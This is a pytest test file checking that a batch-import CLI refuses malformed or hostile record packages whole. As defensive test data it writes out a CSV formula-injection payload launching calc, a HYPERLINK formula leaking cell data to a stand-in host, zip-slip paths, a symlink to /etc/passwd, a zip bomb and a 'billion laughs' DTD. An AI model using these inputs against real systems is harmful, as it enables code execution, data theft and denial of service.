"""Malformed packages through the real CLI (`dgate batch submit`): each is refused whole
(exit 3, one line naming the problem, nothing imported, a refused_package accounting row) or
accepted whole with the per-record codes the law requires — never a traceback, never exit 1,
never part of a batch."""

from __future__ import annotations

import io
import itertools
import json
import os
import stat
import zipfile
from collections.abc import Callable
from datetime import date, datetime
from pathlib import Path

import pytest
from tests.e2e.handmade import CASES, RECORD_HEADER, setup_home
from tests.reliability.packages import (
    assert_accepted,
    assert_expected_codes,
    assert_refused,
    csv_of,
    decided,
    package,
    rows,
    snapshot,
    submit,
    zipped,
)

_ids = itertools.count(1)
N = len(CASES)  # one record per handmade case in every package built here


@pytest.fixture(scope="module")
def env(tmp_path_factory: pytest.TempPathFactory):
    tmp = tmp_path_factory.mktemp("malformed")
    home, key = setup_home(tmp)
    return home, key, tmp


def fresh(env) -> tuple[Path, object, Path, str]:
    """The shared home, the official's key, a new work folder and a new batch id."""
    home, key, tmp = env
    n = next(_ids)
    work = tmp / f"case-{n}"
    work.mkdir()
    return home, key, work, f"ICE-2026-9{n:05d}"


def csv_package(env, text_or_bytes: str | bytes, count: int = N, **kw: object):
    home, key, work, batch = fresh(env)
    data = text_or_bytes.encode("utf-8") if isinstance(text_or_bytes, str) else text_or_bytes
    return home, package(work / "pkg", key, data, count=count, batch_id=batch, **kw), batch


# --- records files refused whole ---------------------------------------------------------

def _latin1() -> bytes:
    return csv_of(rows({"last_name": "García"}, agent="L1")).encode("latin-1")


REFUSED_RECORDS: dict[str, tuple[Callable[[], bytes], str]] = {
    # case: (records bytes, words the one-line message must contain)
    "utf16_with_bom": (lambda: csv_of(rows(agent="U16")).encode("utf-16"), "NUL"),
    "utf16le_no_bom": (lambda: csv_of(rows(agent="U16")).encode("utf-16-le"), "NUL"),
    "latin1_accent": (_latin1, "line 2"),
    "binary_garbage": (lambda: bytes(range(256)) * 64, "records.csv"),
    "garbage_after_header": (lambda: (",".join(RECORD_HEADER) + "\r\n").encode()
                             + b"\xff\xfe\x00\x81" * 100, "records.csv line 2"),
    "nul_inside_field": (lambda: csv_of(rows({"reason": "a\x00b"}, agent="N")).encode(),
                         "NUL"),
    "field_over_4096_chars": (lambda: csv_of(rows({}, {"reason": "x" * 5000})).encode(),
                              "line 3 column reason"),
    "field_over_csv_limit": (lambda: csv_of(rows({"reason": "y" * 200_000})).encode(),
                             "malformed CSV"),
    "a_million_columns": (lambda: (",".join(RECORD_HEADER) + "," * 1_000_000 + "\r\n").encode(),
                          "columns, more than"),
    "duplicate_header": (lambda: csv_of(rows(agent="D"), RECORD_HEADER + ["first_name"])
                         .encode(), "'first_name' repeats"),
    "duplicate_header_by_case": (lambda: csv_of(rows(agent="D"), RECORD_HEADER + [" ZIP "])
                                 .encode(), "'zip' repeats"),
    "row_wider_than_header": (lambda: (csv_of(rows(agent="W")) + "a" + ",b" * 25 + "\r\n")
                              .encode(), f"line {N + 2}"),
    "unterminated_quote": (lambda: csv_of(rows(agent="Q")).encode() + b'"R11,Ann', "malformed"),
    "header_only_garbage_names": (lambda: b"\xef\xbb\xbf=cmd|' /C calc'!A0,b,c\r\n1,2,3\r\n",
                                  "missing required column"),
    "empty_file": (lambda: b"", "empty"),
}


@pytest.mark.parametrize("case", sorted(REFUSED_RECORDS))
def test_bad_records_file_is_refused_whole(env, case: str) -> None:
    make, words = REFUSED_RECORDS[case]
    home, pkg, _ = csv_package(env, make())
    before = snapshot(home)
    line = assert_refused(home, before, submit(home, pkg))
    assert words in line, line


def test_huge_field_message_names_place_not_value(env) -> None:
    home, pkg, _ = csv_package(env, csv_of(rows({}, {"last_name": "Zebulon" * 700})))
    line = assert_refused(home, snapshot(home), submit(home, pkg))
    assert "Zebulon" not in line and "line 3 column last_name" in line


# --- manifests refused whole -------------------------------------------------------------

def _manifest_variant(env, mutate: Callable[[bytes], bytes]):
    home, key, work, batch = fresh(env)
    data = csv_of(rows(agent=batch)).encode()
    from tests.reliability.packages import manifest

    raw = json.dumps(manifest(data, "records.csv", N, batch)).encode("utf-8")
    return home, package(work / "pkg", key, data, count=N, batch_id=batch,
                         manifest_bytes=mutate(raw))


MANIFEST_BREAKS: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "utf16": (lambda raw: raw.decode().encode("utf-16"), "not valid UTF-8"),
    "repeated_key": (lambda raw: raw[:-1] + b', "record_count": 11}', "more than once"),
    "nested_100k_deep": (lambda raw: raw[:-1] + b', "x": ' + b"[" * 100_000 + b"]" * 100_000
                         + b"}", "batch.json"),
    "5000_digit_number": (lambda raw: raw.replace(f'"record_count": {N}'.encode(),
                                                  b'"record_count": 1' + b"0" * 5000),
                          "batch.json"),
    "nan": (lambda raw: raw.replace(f'"record_count": {N}'.encode(), b'"record_count": NaN'),
            "NaN"),
    "not_an_object": (lambda raw: b"[" + raw + b"]", "not a JSON object"),
    "over_one_mib": (lambda raw: raw[:-1] + b', "pad": "' + b"p" * (1 << 20) + b'"}',
                     "larger than"),
    "records_file_escapes": (lambda raw: raw.replace(b'"records.csv"', b'"../records.csv"'),
                             "plain file name"),
}


@pytest.mark.parametrize("case", sorted(MANIFEST_BREAKS))
def test_bad_manifest_is_refused_whole(env, case: str) -> None:
    mutate, words = MANIFEST_BREAKS[case]
    home, pkg = _manifest_variant(env, mutate)
    line = assert_refused(home, snapshot(home), submit(home, pkg))
    assert words in line, line


def test_jsonl_with_a_5000_digit_number_is_refused(env) -> None:
    home, key, work, batch = fresh(env)
    obj = {**rows(agent=batch)[0]}
    line = json.dumps(obj)[:-1] + ', "extra": 1' + "0" * 5000 + "}\n"
    pkg = package(work / "pkg", key, line.encode(), count=1, batch_id=batch,
                  records_name="records.jsonl")
    msg = assert_refused(home, snapshot(home), submit(home, pkg))
    assert "records.jsonl line 1" in msg


# --- zips --------------------------------------------------------------------------------

def _symlink_entry(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info


ZIP_BREAKS: dict[str, tuple[list[tuple[zipfile.ZipInfo | str, bytes]], str]] = {
    "dotdot": ([("../evil.txt", b"x")], "'..'"),
    "backslash_dotdot": ([("..\\evil.txt", b"x")], "'..'"),
    "absolute": ([("/etc/evil.txt", b"x")], "absolute path"),
    "drive_letter": ([("C:/evil.txt", b"x")], "absolute path"),
    "symlink_entry": ([(_symlink_entry("link"), b"/etc/passwd")], "symbolic link"),
    "duplicate_entry": ([("records.csv", b"request_id\r\n")], "repeats the path"),
    "bomb_5mb_of_zeros": ([("padding.csv", b"0" * (5 << 20))], "zip bomb"),
}


@pytest.mark.parametrize("case", sorted(ZIP_BREAKS))
def test_hostile_zip_is_refused_whole(env, case: str) -> None:
    extra, words = ZIP_BREAKS[case]
    home, pkg, batch = csv_package(env, csv_of(rows(agent=case)))
    z = zipped(pkg, pkg.parent / f"{batch}.zip", extra)
    line = assert_refused(home, snapshot(home), submit(home, z))
    assert words in line, line


def test_truncated_and_non_zip_are_refused(env) -> None:
    home, pkg, batch = csv_package(env, csv_of(rows(agent="T")))
    z = zipped(pkg, pkg.parent / f"{batch}.zip")
    cut = z.with_name("cut.zip")
    cut.write_bytes(z.read_bytes()[: z.stat().st_size // 2])
    assert "not a readable zip" in assert_refused(home, snapshot(home), submit(home, cut))
    fake = z.with_name("fake.zip")
    fake.write_bytes(b"PK\x03\x04" + bytes(200))
    assert_refused(home, snapshot(home), submit(home, fake))


# --- folders -----------------------------------------------------------------------------

def test_symlink_out_of_the_folder_is_refused(env, tmp_path: Path) -> None:
    home, pkg, _ = csv_package(env, csv_of(rows(agent="S")))
    outside = tmp_path / "elsewhere.csv"
    outside.write_bytes((pkg / "records.csv").read_bytes())
    (pkg / "records.csv").unlink()
    (pkg / "records.csv").symlink_to(outside)
    assert "links outside" in assert_refused(home, snapshot(home), submit(home, pkg))


def test_symlinked_manifest_and_symlink_loop_are_refused(env) -> None:
    home, pkg, _ = csv_package(env, csv_of(rows(agent="S2")))
    target = pkg.parent / "batch.json"
    (pkg / "batch.json").rename(target)
    (pkg / "batch.json").symlink_to(target)
    assert "links outside" in assert_refused(home, snapshot(home), submit(home, pkg))
    (pkg / "batch.json").unlink()
    (pkg / "batch.json").symlink_to(pkg / "batch.json")
    assert_refused(home, snapshot(home), submit(home, pkg))


def test_fifo_and_folder_in_place_of_the_records_file(env) -> None:
    home, pkg, _ = csv_package(env, csv_of(rows(agent="F")))
    (pkg / "records.csv").unlink()
    os.mkfifo(pkg / "records.csv")  # opening it for reading would block forever
    assert "not a plain file" in assert_refused(home, snapshot(home), submit(home, pkg))
    (pkg / "records.csv").unlink()
    (pkg / "records.csv").mkdir()
    assert_refused(home, snapshot(home), submit(home, pkg))


# --- accepted whole, with the right codes ------------------------------------------------

def test_utf8_boms_on_records_and_manifest_are_accepted(env) -> None:
    home, key, work, batch = fresh(env)
    data = b"\xef\xbb\xbf" + csv_of(rows(agent=batch)).encode()
    from tests.reliability.packages import manifest

    raw = b"\xef\xbb\xbf" + json.dumps(manifest(data, "records.csv", N, batch)).encode()
    pkg = package(work / "pkg", key, data, count=N, batch_id=batch, manifest_bytes=raw)
    before = snapshot(home)
    got = decided(home, assert_accepted(home, before, submit(home, pkg), N))
    assert_expected_codes(got)


@pytest.mark.parametrize("terminator", ["\n", "\r"])
def test_other_line_endings_are_accepted(env, terminator: str) -> None:
    home, pkg, batch = csv_package(env, csv_of(rows(agent=f"LE{len(terminator)}{ord(terminator)}"),
                                               terminator=terminator))
    got = decided(home, assert_accepted(home, snapshot(home), submit(home, pkg), N))
    assert_expected_codes(got)


def test_quotes_commas_newlines_and_formulas_inside_fields(env) -> None:
    """Fields that break naive CSV handling, and spreadsheet formulas, are data: the rows
    decide exactly as the same rows without them."""
    tricky = {"reason": 'He said "leave",\r\nthen, later:\n=HYPERLINK("http://x.test","y")',
              "case_number": '=1+2,"CR"\n-3', "case_agent_id": "@SUM(A1)"}
    home, pkg, batch = csv_package(env, csv_of(rows(*[tricky] * N)))
    got = decided(home, assert_accepted(home, snapshot(home), submit(home, pkg), N))
    assert_expected_codes(got, [r for r in got if r != "R6"])


def test_a_formula_as_a_name_is_never_matched(env) -> None:
    home, pkg, batch = csv_package(env, csv_of(rows(
        {"first_name": '=HYPERLINK("http://x.test/?"&A1,"Maria")', "last_name": "+Garcia"},
        agent="FN")))
    got = decided(home, assert_accepted(home, snapshot(home), submit(home, pkg), N))
    assert got["R1"][0] != "DISCLOSE" and got["R1"][2] == ""
    assert_expected_codes(got, [r for r in got if r != "R1"])


def _xlsx(records: list[dict[str, object]]) -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(RECORD_HEADER)
    for r in records:
        ws.append([r.get(c, "") for c in RECORD_HEADER])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def test_xlsx_with_excel_dates_numbers_and_a_serial_date(env) -> None:
    """Real date cells read as ISO dates, a ZIP typed as a number keeps its digits; a date
    typed as Excel's serial number is not a date and the record is rejected for it."""
    home, key, work, batch = fresh(env)
    typed: list[dict[str, object]] = []
    for r in rows(agent=batch):
        t: dict[str, object] = dict(r)
        t["final_order_date"] = datetime.fromisoformat(r["final_order_date"])
        if r["date_of_birth"]:
            t["date_of_birth"] = date.fromisoformat(r["date_of_birth"])
        if r.get("zip", "").isdigit():
            t["zip"] = int(r["zip"])
        typed.append(t)
    typed[4]["final_order_date"] = 46037  # 2026-01-15 as Excel stores it without a format
    data = _xlsx(typed)
    pkg = package(work / "pkg", key, data, count=N, batch_id=batch, records_name="records.xlsx")
    got = decided(home, assert_accepted(home, snapshot(home), submit(home, pkg), N))
    assert_expected_codes(got, [r for r in got if r != "R5"])
    assert got["R5"][0] == "REJECTED" and "R_ORDER_MISSING" in got["R5"][1].split(";")


def test_xlsx_with_a_dtd_is_refused(env) -> None:
    home, key, work, batch = fresh(env)
    good = _xlsx([dict(r) for r in rows(agent=batch)])
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            part = src.read(info)
            if info.filename.endswith("sheet1.xml"):
                # a "billion laughs" entity declaration ahead of the root element
                part = b'<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>' \
                    + part
                assert b"<!DOCTYPE" in part
            dst.writestr(info, part)
    pkg = package(work / "pkg", key, out.getvalue(), count=N, batch_id=batch,
                  records_name="records.xlsx")
    assert "DTD" in assert_refused(home, snapshot(home), submit(home, pkg))


def test_parquet_with_a_nested_column_is_refused(env) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    home, key, work, batch = fresh(env)
    cols = {c: [r.get(c, "") for r in rows(agent=batch)] for c in RECORD_HEADER}
    table = pa.table({**cols, "aliases": pa.array([["a", "b"]] * N)})
    buf = io.BytesIO()
    pq.write_table(table, buf)
    pkg = package(work / "pkg", key, buf.getvalue(), count=N, batch_id=batch,
                  records_name="records.parquet")
    assert "unsupported type" in assert_refused(home, snapshot(home), submit(home, pkg))
